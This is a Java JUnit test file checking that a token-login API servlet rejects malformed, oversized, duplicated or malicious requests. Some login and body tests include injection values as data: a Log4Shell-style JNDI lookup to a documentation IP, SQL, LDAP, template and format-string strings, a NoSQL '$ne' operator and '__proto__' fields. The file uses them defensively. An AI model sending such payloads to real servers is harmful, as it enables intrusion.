package org.tokenfilter.endpoint;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.http.HttpResponse;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.tokenfilter.testsupport.LogLines;
import org.tokenfilter.testsupport.RawHttp;
import org.tokenfilter.testsupport.RawHttp.Answer;
import org.tokenfilter.testsupport.WebApp;

/** Rejected requests of API clients. Cases L06 to L20, L25, D24 and I9. */
final class ApiClientServletRejectionsTest {

  private static final String SANDBOX = TokenApiFixture.SESSION_OPEN + "sandbox";
  private static final String JSON = "application/json";
  private static final String GOOD =
      "{\"username\":\"alice\",\"password\":\"wonderland\",\"apiClientName\":\"test4\"}";
  private static final int MAX_BODY_BYTES = 8192;

  @TempDir private Path folder;
  private TokenApiFixture fixture;
  private WebApp app;
  private RawHttp client;

  @BeforeEach
  void startTheApplication() throws Exception {
    start(Map.of("token.login.failures", "1000"));
  }

  private void start(Map<String, String> settings) throws Exception {
    fixture = TokenApiFixture.of(folder, settings);
    app = fixture.app();
    client = RawHttp.to(app);
  }

  @AfterEach
  void stopTheApplication() {
    fixture.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "/",
        "/sessionOpen",
        "/sessionOpen/",
        "/sessionOpen/other",
        "/sessionOpen/Sandbox",
        "/sessionOpen/sandbox/",
        "/sessionOpen/sandbox/x",
        "/sessionOpen/sandbox,live",
        "/sessionOpen/sandbox%20",
        "/sessionopen/sandbox",
        "/refreshToken/",
        "/refreshToken/x",
        "/refreshtoken",
        "/x/refreshToken"
      })
  void unknownPathIsNotFound(String path) throws Exception {
    for (String method : List.of("GET", "POST", "DELETE")) {
      HttpResponse<String> answer = app.send(method, "/routelink/v1" + path);
      assertThat(answer.statusCode()).as("%s %s", method, path).isEqualTo(404);
      assertThat(answer.headers().allValues("Cache-Control")).containsExactly("no-store");
      assertThat(answer.headers().allValues("Allow")).isEmpty();
    }
    assertThat(app.post("/routelink/v1" + path, JSON, GOOD).statusCode()).isEqualTo(404);
  }

  @Test
  void answersOtherMethodsWithAllowHeader() throws Exception {
    for (String method : List.of("GET", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH")) {
      HttpResponse<String> answer = app.send(method, SANDBOX);
      assertThat(answer.statusCode()).as(method).isEqualTo(405);
      assertThat(answer.headers().allValues("Allow")).containsExactly("POST");
    }
    for (String method : List.of("PUT", "DELETE", "HEAD", "OPTIONS", "PATCH")) {
      HttpResponse<String> answer = app.send(method, TokenApiFixture.REFRESH);
      assertThat(answer.statusCode()).as(method).isEqualTo(405);
      assertThat(answer.headers().allValues("Allow")).containsExactly("GET, POST");
    }
    Answer trace = client.send("TRACE", TokenApiFixture.REFRESH, "X-Echo: canary");
    assertThat(trace.status()).isEqualTo(405);
    assertThat(trace.head() + trace.body()).doesNotContain("canary");
    HttpResponse<String> disguised = app.get(SANDBOX, "X-HTTP-Method-Override", "POST");
    assertThat(disguised.statusCode()).isEqualTo(405);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "text/plain",
        "application/json;charset=utf-16",
        "application/json; charset=iso-8859-1",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "application/json, text/html",
        "text/json"
      })
  void l06_refusesOtherMediaTypes(String type) throws Exception {
    assertUnsupported(app.post(SANDBOX, type, GOOD));
  }

  @Test
  void l15_refusesBodyWithContentEncoding() throws Exception {
    assertUnsupported(app.post(SANDBOX, JSON, GOOD, "Content-Encoding", "gzip"));
  }

  private static void assertUnsupported(HttpResponse<String> answer) {
    assertThat(answer.statusCode()).isEqualTo(415);
    assertThat(answer.body())
        .isEqualTo(
            "{\"type\":\"about:blank\",\"title\":\"Unsupported Media Type\",\"status\":415}");
    assertThat(answer.headers().allValues("Cache-Control")).containsExactly("no-store");
  }

  @Test
  void acceptsUtf8Charset() throws Exception {
    assertThat(app.post(SANDBOX, "application/json; charset=UTF-8", GOOD).statusCode())
        .isEqualTo(200);
  }

  @Test
  void d24_refusesTooLargeOrOtherTypeBodyBeforeItArrives() throws Exception {
    for (String expect : List.of("", "Expect: 100-continue\r\n")) {
      Answer large = client.raw(head(JSON, "Content-Length: 1000000000\r\n" + expect));
      assertThat(large.head()).startsWith("HTTP/1.1 413 ");
      assertThat(large.body())
          .isEqualTo("{\"type\":\"about:blank\",\"title\":\"Content Too Large\",\"status\":413}");
      Answer other = client.raw(head("text/plain", "Content-Length: 1000000000\r\n" + expect));
      assertThat(other.head()).startsWith("HTTP/1.1 415 ");
    }
  }

  @Test
  void bodyOf8KibIsReadAndOneByteMoreIsNot() throws Exception {
    String padded = GOOD + " ".repeat(MAX_BODY_BYTES - GOOD.length());
    assertThat(app.post(SANDBOX, JSON, padded).statusCode()).isEqualTo(200);
    assertThat(app.post(SANDBOX, JSON, padded + " ").statusCode()).isEqualTo(413);
    assertThat(client.raw(chunked(padded.replace("test4", "test5"))).status()).isEqualTo(200);
    assertThat(client.raw(chunked(padded + " ")).status()).isEqualTo(413);
  }

  private static String chunked(String body) {
    StringBuilder request = new StringBuilder(head(JSON, "Transfer-Encoding: chunked\r\n"));
    for (int i = 0; i < body.length(); i += 1000) {
      String chunk = body.substring(i, Math.min(i + 1000, body.length()));
      request.append(Integer.toHexString(chunk.length())).append("\r\n").append(chunk);
      request.append("\r\n");
    }
    return request.append("0\r\n\r\n").toString();
  }

  private static String head(String type, String headers) {
    return "POST "
        + SANDBOX
        + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: "
        + type
        + "\r\n"
        + headers
        + "\r\n";
  }

  @Test
  void l16_incompleteBodyIsABadRequest() throws Exception {
    try (LogLines ours = new LogLines("org.tokenfilter");
        LogLines container = new LogLines("org.eclipse.jetty")) {
      Answer early = client.sendAndShutDownOutput(head(JSON, "Content-Length: 500\r\n") + GOOD);
      assertBad(early, "the body did not come whole");
      Answer unended =
          client.sendAndShutDownOutput(
              head(JSON, "Transfer-Encoding: chunked\r\n")
                  + Integer.toHexString(GOOD.length())
                  + "\r\n"
                  + GOOD
                  + "\r\n");
      assertBad(unended, "the body did not come whole");
      assertThat(client.raw(head(JSON, "Transfer-Encoding: chunked\r\n") + "zz\r\n").status())
          .isEqualTo(400);
      ours.take();
      client.abort(head(JSON, "Content-Length: 500\r\n") + GOOD);
      await().until(() -> ours.lines().contains("DEBUG Refused: the body did not come whole"));
      assertThat(app.post(SANDBOX, JSON, GOOD).statusCode()).isEqualTo(200);
      assertThat(ours.lines()).noneMatch(line -> line.contains("Exception"));
      assertThat(container.lines())
          .noneMatch(line -> line.startsWith("WARN") || line.startsWith("ERROR"));
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "``|not a JSON object",
        "null|not a JSON object",
        "[]|not a JSON object",
        "\"canary\"|not a JSON object",
        "canary|not a JSON object",
        "{\"canary\":|not a JSON object",
        "{}|username is missing",
        "{\"username\":\"alice\",\"apiClientName\":\"test4\"}|password is missing",
        "{\"username\":\"alice\",\"password\":\"canary\"}|apiClientName is missing",
        "{\"username\":\"\",\"password\":\"canary\",\"apiClientName\":\"t\"}|username is missing",
        "{\"username\":\"canary\",\"password\":\"\",\"apiClientName\":\"t\"}|password is missing",
        "{\"username\":\"canary\",\"password\":\"p\",\"apiClientName\":\"\"}"
            + "|apiClientName is missing",
        "{\"username\":7,\"password\":\"p\",\"apiClientName\":\"t\"}|username is not a string",
        "{\"username\":true,\"password\":\"p\",\"apiClientName\":\"t\"}|username is not a string",
        "{\"username\":\"u\",\"password\":null,\"apiClientName\":\"t\"}|password is not a string",
        "{\"username\":\"u\",\"password\":[\"canary\"]}|password is not a string",
        "{\"username\":{\"$ne\":\"canary\"}}|username is not a string",
        "{\"apiClientName\":1.5}|apiClientName is not a string",
        "{\"username\":\"canary\",\"username\":\"canary\"}|not a JSON object",
        "{\"username\":\"canary\",\"u\\u0073ername\":\"canary\"}|not a JSON object",
        "{\"canary\":1,\"canary\":2}|not a JSON object",
        GOOD + "canary|not a JSON object",
        GOOD + GOOD + "|not a JSON object",
        GOOD + ",|not a JSON object",
        "\ufeff" + GOOD + "|not a JSON object",
        "{\"username\":\"canary\\ud800\"}|a value that is no text",
        "{\"password\":\"canary\\u0000\"}|a value that is no text"
      })
  void describesBadBodyWithoutQuotingIt(String body, String message) throws Exception {
    assertBad(app.post(SANDBOX, JSON, body), message);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "caf\u00e9",
        "a:b",
        "a/b",
        "a'b",
        "a\\tb",
        "a\\nb",
        "test4\\n",
        "<canary>",
        "a\\u00a0b",
        "%63anary",
        "12345678901234567890123456789012345678901234567890123456789012345"
      })
  void refusesBadClientNameBeforeCheckingPassword(String name) throws Exception {
    for (String password : List.of("wonderland", "wrong")) {
      String body =
          "{\"username\":\"alice\",\"password\":\"%s\",\"apiClientName\":\"%s\"}"
              .formatted(password, name);
      assertBad(
          app.post(SANDBOX, JSON, body), "apiClientName is 1 to 64 of A-Z a-z 0-9 . _ - and space");
    }
  }

  @Test
  void acceptsLongestClientName() throws Exception {
    String name = "Az09._- ".repeat(8);
    assertThat(app.post(SANDBOX, JSON, GOOD.replace("test4", name)).statusCode()).isEqualTo(200);
    assertThat(app.post(SANDBOX, JSON, GOOD.replace("test4", name)).body())
        .contains("for the api client '" + name + "'.");
  }

  @Test
  void l11_bodyThatIsNotUtf8IsRefused() throws Exception {
    for (String charset : List.of("UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "UTF-32LE")) {
      assertBad(app.post(SANDBOX, JSON, GOOD.getBytes(Charset.forName(charset))));
    }
    for (String bytes : List.of("\u00c0\u00af", "\u00ed\u00a0\u0080", "\u00ff", "\u00fc")) {
      String body = GOOD.replace("wonderland", "wonder" + bytes);
      assertBad(app.post(SANDBOX, JSON, body.getBytes(StandardCharsets.ISO_8859_1)));
    }
  }

  @Test
  void l15_refusesDeepNestingAndLongNumbers() throws Exception {
    for (String value :
        List.of(
            "[".repeat(1000) + "]".repeat(1000),
            "[".repeat(4000),
            "{\"a\":".repeat(900) + "1" + "}".repeat(900),
            "9".repeat(2000))) {
      assertBad(app.post(SANDBOX, JSON, GOOD.replace("}", ",\"more\":" + value + "}")));
    }
  }

  @Test
  void l09_unknownMembersAreIgnoredAndNeverBound() throws Exception {
    String body =
        GOOD.replace(
            "}",
            ",\"roles\":[\"admin\"],\"isAdmin\":true,\"__proto__\":{\"username\":\"admin\"},"
                + "\"@class\":\"x\",\"Username\":\"admin\",\"environment\":\"live\","
                + "\"lifetime\":0}");
    HttpResponse<String> answer = app.post(SANDBOX, JSON, body);
    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(WebApp.member(answer.body(), "expiration")).isEqualTo("11/23/2026 10:00:00");
    assertThat(fixture.getPage(WebApp.member(answer.body(), "token")).body()).isEqualTo("alice");
  }

  @Test
  void answersAllWrongCredentialsWithIdenticalBytes() throws Exception {
    Set<String> answers = new HashSet<>();
    for (List<String> login :
        List.of(
            List.of("alice", "wrong"),
            List.of("nobody", "wonderland"),
            List.of("Alice", "wonderland"),
            List.of("alice ", "wonderland"),
            List.of("alice", "wonderland "),
            List.of("alice", "wonderland\\n"),
            List.of("ali\\u0001ce", "wonderland"),
            List.of("a".repeat(256), "wonderland"),
            List.of("alice", "p".repeat(1025)),
            List.of("'--", "x"),
            List.of("*)(uid=*", "x"),
            List.of("${jndi:ldap://192.0.2.1/a}", "#{7*7}%n%s"))) {
      String body =
          "{\"username\":\"%s\",\"password\":\"%s\",\"apiClientName\":\"test4\"}"
              .formatted(login.get(0), login.get(1));
      Answer answer = client.raw(loginRequest(body));
      answers.add(answer.head().replaceAll("\r\nDate: [^\r]*", "") + answer.body());
      assertThat(answer.all("WWW-Authenticate")).containsExactly("Bearer realm=\"ROOT\"");
    }
    assertThat(answers)
        .singleElement()
        .asString()
        .startsWith("HTTP/1.1 401 ")
        .endsWith("{\"type\":\"about:blank\",\"title\":\"Unauthorized\",\"status\":401}");
  }

  private static String loginRequest(String body) {
    return head(JSON, "Content-Length: " + body.length() + "\r\n") + body;
  }

  @Test
  void ignoresCredentialsInHeaderOrQuery() throws Exception {
    assertBad(
        app.post(SANDBOX, JSON, "{}", "Authorization", WebApp.basic("alice:wonderland")),
        "username is missing");
    assertBad(
        app.post(SANDBOX + "?username=alice&password=wonderland&apiClientName=test4", JSON, "{}"),
        "username is missing");
  }

  @Test
  void l20_afterTooManyFailuresTheRightPasswordIsRefusedToo() throws Exception {
    stopTheApplication();
    start(Map.of("token.login.failures", "2"));
    String wrong = GOOD.replace("wonderland", "wrong");
    for (int i = 0; i < 2; i++) {
      assertThat(app.post(SANDBOX, JSON, wrong).statusCode()).isEqualTo(401);
    }
    for (String body : List.of(GOOD, wrong)) {
      HttpResponse<String> answer = app.post(SANDBOX, JSON, body);
      assertThat(answer.statusCode()).isEqualTo(429);
      assertThat(answer.headers().firstValue("Retry-After")).hasValue("300");
      assertThat(answer.headers().allValues("WWW-Authenticate")).isEmpty();
      assertThat(answer.body())
          .isEqualTo("{\"type\":\"about:blank\",\"title\":\"Too Many Requests\",\"status\":429}");
    }
    String bob = "{\"username\":\"bob\",\"password\":\"builder\",\"apiClientName\":\"test4\"}";
    assertThat(app.post(SANDBOX, JSON, bob).statusCode()).isEqualTo(200);
  }

  @Test
  void twoTokensThatDifferAreABadRequest() throws Exception {
    String token = WebApp.member(app.post(SANDBOX, JSON, GOOD).body(), "token");
    assertBad(
        client.get(
            TokenApiFixture.REFRESH, "Authorization: Bearer " + token, "Authorization: Bearer x"),
        "two Authorization headers");
    assertBad(
        client.get(
            TokenApiFixture.REFRESH,
            "Authorization: Bearer " + token,
            "Authorization: Bearer " + token),
        "two Authorization headers");
    stopTheApplication();
    start(Map.of("token.carriers", "bearer, cookie"));
    String one = WebApp.member(app.post(SANDBOX, JSON, GOOD).body(), "token");
    String other =
        WebApp.member(app.post(SANDBOX, JSON, GOOD.replace("test4", "test5")).body(), "token");
    assertBad(
        client.get(
            TokenApiFixture.REFRESH, "Authorization: Bearer " + one, "Cookie: token=" + other),
        "two tokens that differ");
  }

  /** Clients must not learn which proxies are in front of the application. */
  @Test
  void badRequestRevealsNothingAboutProxies() throws Exception {
    stopTheApplication();
    start(Map.of("token.trusted-proxies", "127.0.0.1"));
    for (String header :
        List.of(
            "X-Forwarded-For: canary",
            "X-Forwarded-For: 1.2.3.4\\",
            "Forwarded: for=\"canary",
            "Forwarded: for=canary",
            "Forwarded: for=1.2.3.4\r\nX-Forwarded-For: 1.2.3.5")) {
      Answer answer = client.raw(head(JSON, lengthOf(GOOD) + header + "\r\n") + GOOD);
      assertThat(answer.status()).as(header).isEqualTo(400);
      assertThat(answer.body())
          .as(header)
          .startsWith("{\"error\":\"permanent\",\"message\":\"")
          .doesNotContainIgnoringCase("canary")
          .doesNotContainIgnoringCase("trusted")
          .doesNotContainIgnoringCase("proxy")
          .doesNotContainIgnoringCase("container");
    }
  }

  private static String lengthOf(String body) {
    return "Content-Length: " + body.length() + "\r\n";
  }

  @Test
  void i9_noLogLineHoldsATokenOrAPassword() throws Exception {
    try (LogLines all = new LogLines("org.tokenfilter");
        LogLines audit = new LogLines("org.tokenfilter.audit")) {
      String token = WebApp.member(app.post(SANDBOX, JSON, GOOD).body(), "token");
      HttpResponse<String> next =
          app.get(TokenApiFixture.REFRESH, "Authorization", "Bearer " + token);
      app.get(TokenApiFixture.REFRESH, "Authorization", "Bearer " + token);
      app.get(TokenApiFixture.REFRESH, "Authorization", "Bearer " + token.substring(0, 100));
      app.post(SANDBOX, JSON, GOOD);
      app.post(SANDBOX, JSON, GOOD.replace("wonderland", "secret-canary"));
      app.post(SANDBOX, JSON, GOOD.replace("wonderland", "secret-canary\\u0000"));
      app.post(SANDBOX, JSON, GOOD.replace("\"wonderland\"", "secret-canary"));
      List<String> lines = new ArrayList<>(all.lines());
      lines.addAll(audit.lines());
      assertThat(lines).hasSizeGreaterThan(5);
      for (String secret :
          List.of(
              "wonderland",
              "secret-canary",
              lastCharacters(token),
              lastCharacters(WebApp.member(next.body(), "token")))) {
        assertThat(lines).noneMatch(line -> line.contains(secret));
      }
    }
  }

  private static String lastCharacters(String token) {
    return token.substring(token.length() - 16);
  }

  private static void assertBad(HttpResponse<String> answer) {
    assertBad(answer, "not a JSON object");
  }

  private static void assertBad(HttpResponse<String> answer, String message) {
    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(answer.body())
        .isEqualTo("{\"error\":\"permanent\",\"message\":\"" + message + "\"}");
    assertThat(answer.headers().allValues("WWW-Authenticate"))
        .containsExactly("Bearer realm=\"ROOT\", error=\"invalid_request\"");
    assertThat(answer.headers().allValues("Cache-Control")).containsExactly("no-store");
  }

  private static void assertBad(Answer answer, String message) {
    assertThat(answer.status()).isEqualTo(400);
    assertThat(answer.body())
        .isEqualTo("{\"error\":\"permanent\",\"message\":\"" + message + "\"}");
    assertThat(answer.all("WWW-Authenticate"))
        .containsExactly("Bearer realm=\"ROOT\", error=\"invalid_request\"");
  }
}
